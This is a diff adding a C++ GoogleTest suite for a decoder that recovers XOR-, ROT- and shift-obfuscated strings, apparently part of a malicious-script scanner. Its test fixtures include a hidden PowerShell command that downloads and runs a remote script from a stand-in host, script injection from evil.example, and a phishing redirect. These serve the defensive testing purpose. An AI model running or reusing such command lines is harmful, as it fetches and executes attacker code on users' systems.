@@ -0,0 +1,123 @@
+#include "pch.h"
+#include <gtest/gtest.h>
+#include "../core/BruteForceDecoder.h"
+#include <chrono>
+#include <iostream>
+
+// ============================================================================
+// Test Suite for BruteForceDecoder (XOR / ROT / shift)
+// ============================================================================
+class BruteForceDecoderTest : public ::testing::Test {
+protected:
+    static std::string xorWith(const std::string& text, const std::string& key) {
+        std::string out = text;
+        for (size_t i = 0; i < out.size(); ++i) out[i] = static_cast<char>(out[i] ^ key[i % key.size()]);
+        return out;
+    }
+
+    const std::string payload =
+        "powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://x.example/p.ps1')\"";
+};
+
+TEST_F(BruteForceDecoderTest, RecoversAnySingleByteXorKey) {
+    BruteForceDecoder decoder;
+    std::string plaintext = "var x = document.createElement('script'); x.src='http://evil.example/a.js';";
+    for (int key : {0x01, 0x37, 0x5a, 0x99, 0xfe}) {
+        auto candidate = decoder.tryDecode(xorWith(plaintext, std::string(1, static_cast<char>(key))));
+        ASSERT_TRUE(candidate.has_value()) << "key " << key;
+        EXPECT_EQ(candidate->decoded, plaintext);
+        EXPECT_EQ(candidate->method, BruteForceDecoder::Method::Xor);
+    }
+}
+
+TEST_F(BruteForceDecoderTest, RecoversRepeatingXorKey) {
+    BruteForceDecoder decoder;
+    for (std::string key : {std::string("k3y"), std::string("\x13\x37"), std::string("ab\x01\x7f")}) {
+        auto candidate = decoder.tryDecode(xorWith(payload, key));
+        ASSERT_TRUE(candidate.has_value()) << key;
+        EXPECT_EQ(candidate->decoded, payload) << candidate->describe();
+    }
+}
+
+TEST_F(BruteForceDecoderTest, RecoversRotAndShift) {
+    BruteForceDecoder decoder;
+    std::string rot = "jvaqbj.ybpngvba = 'uggcf://cuvfu.rknzcyr/ybtva'";
+    auto rotCandidate = decoder.tryDecode(rot);
+    ASSERT_TRUE(rotCandidate.has_value());
+    EXPECT_EQ(rotCandidate->decoded, "window.location = 'https://phish.example/login'");
+    EXPECT_EQ(rotCandidate->describe(), "ROT13");
+
+    std::string plaintext = "eval(function(p,a,c,k,e,d){return p})";
+    std::string shifted = plaintext;
+    for (char& c : shifted) c = static_cast<char>(static_cast<unsigned char>(c) - 7);
+    auto shiftCandidate = decoder.tryDecode(shifted);
+    ASSERT_TRUE(shiftCandidate.has_value());
+    EXPECT_EQ(shiftCandidate->decoded, plaintext);
+    EXPECT_EQ(shiftCandidate->describe(), "shift +7");
+}
+
+TEST_F(BruteForceDecoderTest, IgnoresPlaintextAndEncodedForms) {
+    BruteForceDecoder decoder;
+    EXPECT_FALSE(decoder.tryDecode("The quick brown fox jumps over the lazy dog").has_value());
+    EXPECT_FALSE(decoder.tryDecode("Lorem ipsum dolor sit amet, consectetur").has_value());
+    EXPECT_FALSE(decoder.tryDecode("aHR0cDovL21hbGljaW91cy5jb20vcGF5bG9hZA==").has_value());
+    EXPECT_FALSE(decoder.tryDecode("687474703a2f2f6d616c6963696f7573").has_value());
+    EXPECT_FALSE(decoder.tryDecode("short").has_value());
+    EXPECT_EQ(decoder.stats().decoded, 0u);
+}
+
+TEST_F(BruteForceDecoderTest, StopsWhenBudgetExhausted) {
+    BruteForceDecoder decoder(std::chrono::microseconds(0));
+    EXPECT_FALSE(decoder.tryDecode(xorWith(payload, "\x42")).has_value());
+    EXPECT_EQ(decoder.stats().skippedBudget, 1u);
+
+    decoder.resetBudget();
+    EXPECT_EQ(decoder.stats().skippedBudget, 0u);
+}
+
+TEST_F(BruteForceDecoderTest, ExhaustedBudgetSkipsScreening) {
+    BruteForceDecoder decoder(std::chrono::microseconds(0));
+    // 후보가 아닌 문자열도 판정 전에 건너뜀
+    EXPECT_FALSE(decoder.tryDecode("short").has_value());
+    EXPECT_FALSE(decoder.tryDecode("The quick brown fox jumps over the lazy dog").has_value());
+    EXPECT_EQ(decoder.stats().skippedBudget, 2u);
+    EXPECT_EQ(decoder.stats().attempted, 0u);
+}
+
+TEST_F(BruteForceDecoderTest, ScreeningTimeIsCharged) {
+    BruteForceDecoder decoder(std::chrono::seconds(10));
+    // 엔트로피 검사까지 통과하고 키워드 스캔에서 걸러지는 큰 문자열
+    std::string text;
+    for (size_t i = 0; text.size() + 16 < BruteForceDecoder::MAX_LENGTH; ++i) {
+        text.push_back(static_cast<char>(0x21 + (i * 37) % 90));
+    }
+    text += " eval(x)";
+    for (int i = 0; i < 50; ++i) {
+        EXPECT_FALSE(decoder.tryDecode(text).has_value());
+    }
+    EXPECT_EQ(decoder.stats().attempted, 0u);
+    EXPECT_GT(decoder.used().count(), 0);
+}
+
+TEST_F(BruteForceDecoderTest, UnescapesJsLiterals) {
+    EXPECT_EQ(BruteForceDecoder::unescapeJsLiteral("\\x41\\u0042\\u{43}\\n\\'"), std::string("ABC\n'"));
+    EXPECT_EQ(BruteForceDecoder::unescapeJsLiteral("\\xff\\x00"), std::string("\xff\0", 2));
+    EXPECT_EQ(BruteForceDecoder::unescapeJsLiteral("\\u{}\\xZZ"), "u{}xZZ");
+}
+
+TEST_F(BruteForceDecoderTest, ThroughputOnLargeInput) {
+    BruteForceDecoder decoder(std::chrono::seconds(10));
+    std::string plaintext;
+    for (int i = 0; i < 200; ++i) plaintext += "var a" + std::to_string(i) + " = document.getElementById('x');\n";
+    std::string encoded = xorWith(plaintext, "\x5a\x13\x77");
+
+    auto start = std::chrono::steady_clock::now();
+    auto candidate = decoder.tryDecode(encoded);
+    double ms = std::chrono::duration<double, std::milli>(std::chrono::steady_clock::now() - start).count();
+
+    ASSERT_TRUE(candidate.has_value());
+    EXPECT_EQ(candidate->decoded, plaintext);
+    std::cout << "[ BENCH    ] brute force " << encoded.size() << " bytes: " << ms << " ms ("
+              << candidate->describe() << ")" << std::endl;
+    RecordProperty("brute_force_ms", std::to_string(ms));
+}